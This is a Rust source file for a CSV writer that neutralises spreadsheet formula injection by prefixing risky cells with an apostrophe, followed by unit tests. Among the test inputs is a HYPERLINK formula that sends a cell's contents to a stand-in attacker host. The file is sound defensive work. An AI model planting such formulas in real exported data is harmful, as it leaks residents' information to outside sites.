//! Every CSV Guichet writes goes through [`CsvWriter`], which neutralises
//! cells a spreadsheet would run as formulas (OWASP "CSV injection").
//!
//! Cells come from residents and browsers (names, addresses, user agents):
//! a cell starting with `=`, `+`, `-`, `@`, a tab or a carriage return opens
//! as a live formula in Excel or LibreOffice — `=HYPERLINK(…)` leaks the
//! row to another site when clicked. Such a cell is written with a leading
//! `'`, which spreadsheets show as text and never evaluate.

use std::io::Write;

/// A CSV writer (`;`-free, RFC 4180 quoting by the `csv` crate) whose cells
/// cannot be formulas.
#[derive(Debug)]
pub struct CsvWriter<W: Write> {
    inner: csv::Writer<W>,
}

impl<W: Write> CsvWriter<W> {
    pub fn new(out: W) -> Self {
        Self {
            inner: csv::Writer::from_writer(out),
        }
    }

    /// A writer whose rows may have different lengths (several tables in
    /// one file, each with its caption).
    pub fn flexible(out: W) -> Self {
        Self {
            inner: csv::WriterBuilder::new().flexible(true).from_writer(out),
        }
    }

    /// The output, every row written.
    pub fn into_inner(self) -> Result<W, csv::Error> {
        self.inner
            .into_inner()
            .map_err(|error| csv::Error::from(error.into_error()))
    }

    /// Writes one row, each cell neutralised.
    pub fn write_row<I, S>(&mut self, cells: I) -> Result<(), csv::Error>
    where
        I: IntoIterator<Item = S>,
        S: AsRef<str>,
    {
        self.inner.write_record(
            cells
                .into_iter()
                .map(|cell| neutralise(cell.as_ref()).into_owned()),
        )
    }

    pub fn flush(&mut self) -> Result<(), csv::Error> {
        self.inner.flush().map_err(csv::Error::from)
    }
}

/// The cell as text a spreadsheet will not evaluate.
pub fn neutralise(cell: &str) -> std::borrow::Cow<'_, str> {
    match cell.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
        _ => cell.into(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_become_text() {
        for formula in [
            "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
            "+1+1",
            "-2+3",
            "@SUM(A1)",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(neutralise(formula), format!("'{formula}"));
        }
        assert_eq!(neutralise("Mozilla/5.0"), "Mozilla/5.0");
        assert_eq!(neutralise(""), "");
        assert_eq!(neutralise("a=b"), "a=b");

        let mut out = Vec::new();
        let mut writer = CsvWriter::new(&mut out);
        writer.write_row(["=1+1", "michel"]).unwrap();
        writer.flush().unwrap();
        drop(writer);
        assert_eq!(String::from_utf8(out).unwrap(), "'=1+1,michel\n");
    }
}
